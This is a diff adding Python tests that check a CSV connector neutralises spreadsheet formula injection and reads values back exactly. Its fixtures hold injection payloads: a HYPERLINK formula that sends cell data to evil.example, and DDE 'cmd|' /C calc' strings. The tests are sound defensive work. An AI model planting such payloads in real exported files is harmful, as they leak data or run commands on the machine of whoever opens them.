@@ -7,10 +7,14 @@ formulas, control characters, a device that never ends.
 from __future__ import annotations
 
 import base64
+import csv
 import os
 import time
+from pathlib import Path
 
+from app.connectors.csv_file import CsvApp, guard_formula, unguard_formula
 from app.connectors.vcard_text import _fold, card_values, parse_card
+from app.model import Create, Record, Update
 
 
 def _card_with(prop: str) -> str:
@@ -49,3 +53,87 @@ def test_a_huge_line_without_a_colon_is_broken_quickly() -> None:
     except Exception as err:  # Broken: "not a property of the form NAME:value"
         assert "NAME:value" in str(err)
     assert time.perf_counter() - started < 5.0
+
+
+# --- CSV formula injection -------------------------------------------------------------------
+
+FORMULAS = {
+    "full_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "organization": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "title": "-2+3+cmd|' /C calc'!A0",
+    "notes": "\tTabbed start",
+}
+PLAIN = {
+    "phone": "+44 20 7946 0958",  # a phone number: written exactly as it is
+    "department": "-12.50",  # a signed number too
+}
+ODD = {
+    "col:Comment": "'=already guarded by the user",  # a guard character of its own: kept
+}
+
+
+def _csv_rows(path: Path) -> list[list[str]]:
+    with path.open(newline="", encoding="utf-8-sig") as handle:
+        return list(csv.reader(handle))
+
+
+def test_csv_formulas_are_neutralised_and_read_back_exactly(tmp_path: Path) -> None:
+    path = tmp_path / "out.csv"
+    path.write_text(
+        "Name,Organization,Title,Notes,Phone,Department,Comment,Email\n", encoding="utf-8"
+    )
+    app = CsvApp(path)
+    fields = {**FORMULAS, **PLAIN, **ODD, "email": "eve@example.com"}
+    [res] = app.write([Create("c1", dict(fields), new_id="eve")])
+    assert res.ok, res.error
+    header, row = _csv_rows(path)[:2]
+    cell = dict(zip(header, row, strict=False))
+    assert cell["Name"] == "'" + FORMULAS["full_name"]
+    assert cell["Organization"] == "'" + FORMULAS["organization"]
+    assert cell["Title"] == "'" + FORMULAS["title"]
+    assert cell["Notes"] == "'" + FORMULAS["notes"]
+    assert cell["Phone"] == "+44 20 7946 0958" and cell["Department"] == "-12.50"
+    assert cell["Comment"] == "''=already guarded by the user"
+    for text in row:  # nothing a spreadsheet would run
+        assert not text or text[0] not in "=+-@\t\r" or text in ("+44 20 7946 0958", "-12.50")
+    [back] = CsvApp(path).fetch(["eve"])
+    assert isinstance(back, Record)
+    for key, value in {**FORMULAS, **PLAIN, **ODD}.items():
+        assert back.fields[key] == value, key
+    # a second write of the same values changes nothing: the round trip is stable
+    before = path.read_bytes()
+    [res] = CsvApp(path).write([Update("u", "eve", {**FORMULAS, **PLAIN, **ODD})])
+    assert res.ok and path.read_bytes() == before
+
+
+def test_the_guard_leaves_the_users_own_cells_and_can_be_turned_off(tmp_path: Path) -> None:
+    path = tmp_path / "own.csv"
+    path.write_text(
+        "Name,Title,Email,Pairsync ID\n=1+1,Boss,ann@example.com,ann\n", encoding="utf-8"
+    )
+    [res] = CsvApp(path).write([Update("u", "ann", {"title": "=2+2"})])
+    assert res.ok, res.error
+    assert _csv_rows(path)[1] == ["=1+1", "'=2+2", "ann@example.com", "ann"]
+    [res] = CsvApp(path, formula_guard=False).write([Update("u", "ann", {"title": "=3+3"})])
+    assert res.ok, res.error
+    assert _csv_rows(path)[1] == ["=1+1", "=3+3", "ann@example.com", "ann"]
+    [ann] = CsvApp(path, formula_guard=False).fetch(["ann"])
+    assert isinstance(ann, Record) and ann.fields["title"] == "=3+3"
+
+
+def test_guard_and_unguard_are_inverse_for_any_text() -> None:
+    from hypothesis import given
+    from hypothesis import strategies as st
+
+    alphabet = st.sampled_from(list("'=+-@\t\r 0123456789.()abc|!"))
+
+    @given(st.text(alphabet, max_size=12))
+    def check(value: str) -> None:
+        written = guard_formula(value)
+        assert unguard_formula(written) == value
+        if written != value:
+            assert written == "'" + value
+        core = written.lstrip("'")
+        assert written == core or not core or written[0] == "'"
+
+    check()
